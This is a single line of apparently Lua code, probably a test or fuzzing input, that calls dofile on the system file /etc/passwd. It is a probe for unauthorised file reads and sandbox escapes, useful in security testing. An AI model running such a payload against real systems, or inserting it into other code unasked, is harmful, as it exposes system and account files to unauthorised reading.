1dofile("/etc/passwd")
